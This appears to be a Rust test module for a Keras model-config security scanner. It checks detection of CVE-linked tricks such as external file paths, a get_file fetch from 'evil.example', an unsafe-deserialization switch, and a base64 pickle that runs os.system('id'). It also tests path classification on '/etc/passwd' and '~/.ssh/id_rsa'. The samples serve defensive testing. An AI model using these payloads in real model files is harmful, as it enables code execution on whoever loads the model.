        let json = r#"{"class_name": "Sequential", "config": {"layers": [
            {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "sm", "filepath": "exported", "call_endpoint": "serve"}},
            {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "filepath": "/tmp/x.h5"}}
        ]}}"#;
        let (_, problems) = check_config(json.as_bytes(), &Limits::default());
        assert_eq!(codes(&problems), ["external-savedmodel", "external-file"]);
        assert_eq!(evidence(&problems[0], "file"), Some("exported"));
        assert_eq!(evidence(&problems[0], "references"), Some("CVE-2026-1462"));
        assert_eq!(evidence(&problems[1], "key"), Some("filepath"));
    }

    /// Issue 17, CVE-2025-8747 and CVE-2025-9906: keras' own file helpers and the safe-mode switch.
    #[test]
    fn issue_17_file_helpers_and_unsafe_switch_are_unsafe() {
        let json = r#"{"class_name": "Sequential", "config": {"layers": [
            {"module": "keras.utils", "class_name": "get_file", "config": {"fname": "x", "origin": "http://evil.example/p"}},
            {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d",
              "activation": {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": "function"}}}
        ]}}"#;
        let (_, problems) = check_config(json.as_bytes(), &Limits::default());
        let c = codes(&problems);
        assert!(c.contains(&"file-helper"), "{c:?}");
        assert!(c.contains(&"unsafe-deserialization"), "{c:?}");
        assert!(c.contains(&"external-file"), "{c:?}");
        let helper = problems.iter().find(|p| p.code == "file-helper").unwrap();
        assert_eq!(evidence(helper, "callable"), Some("keras.utils.get_file"));
        assert_eq!(
            evidence(helper, "references"),
            Some("CVE-2025-8747,GHSA-c9rc-mg46-23w3")
        );
        let switch = problems
            .iter()
            .find(|p| p.code == "unsafe-deserialization")
            .unwrap();
        assert_eq!(evidence(switch, "references"), Some("CVE-2025-9906"));
    }

    /// Issue 17, CVE-2025-49655: the wrapped torch module is decoded for the pickle inspector.
    #[test]
    fn issue_17_torch_module_wrapper_payload_is_decoded() {
        use base64::Engine;
        let payload = b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00idq\x00\x85R.";
        let b64 = base64::engine::general_purpose::STANDARD.encode(payload);
        let json = format!(
            r#"{{"class_name": "Sequential", "config": {{"layers": [
            {{"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {{"name": "tw", "module": "{b64}"}}}}]}}}}"#
        );
        let (facts, problems) = check_config(json.as_bytes(), &Limits::default());
        assert_eq!(codes(&problems), ["embedded-object"]);
        assert_eq!(evidence(&problems[0], "layer"), Some("tw"));
        assert_eq!(evidence(&problems[0], "references"), Some("CVE-2025-49655"));
        assert_eq!(facts.embedded.len(), 1);
        assert_eq!(facts.embedded[0].bytes, payload);
        assert_eq!(facts.embedded[0].path, "/config/layers/0/config/module");
    }

    #[test]
    fn base64_pickle_in_any_layer_is_decoded_and_plain_strings_are_not() {
        use base64::Engine;
        let mut payload = b"\x80\x04\x95".to_vec();
        payload.extend([b'A'; 80]);
        let b64 = base64::engine::general_purpose::STANDARD.encode(&payload);
        let plain = "a".repeat(100);
        let json = format!(
            r#"{{"class_name": "Sequential", "config": {{"layers": [
            {{"module": "keras.layers", "class_name": "Dense", "config": {{"name": "d", "blob": "{b64}", "note": "{plain}"}}}}]}}}}"#
        );
        let (facts, problems) = check_config(json.as_bytes(), &Limits::default());
        assert_eq!(codes(&problems), ["embedded-object"]);
        assert_eq!(facts.embedded.len(), 1);
        assert_eq!(facts.embedded[0].bytes, payload);
    }

    #[test]
    fn outside_path_names_how() {
        assert_eq!(outside_path("/etc/passwd"), Some("absolute"));
        assert_eq!(outside_path("gs://b/v"), Some("url"));
        assert_eq!(outside_path("a/../../b"), Some("traversal"));
        assert_eq!(outside_path("~/.ssh/id_rsa"), Some("absolute"));
        assert_eq!(outside_path("assets/vocab.txt"), None);
    }

    proptest::proptest! {
        #[test]
        fn never_panics_on_random_bytes(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..512)) {
            let _ = check_config(&bytes, &Limits::default());
        }

        #[test]
        fn never_panics_on_mutated_config(pos in 0usize..900, byte in proptest::prelude::any::<u8>()) {
            let mut bytes = KERAS2_LAMBDA.as_bytes().to_vec();
            let len = bytes.len();
            bytes[pos % len] = byte;
            let _ = check_config(&bytes, &Limits::default());
        }
    }
}
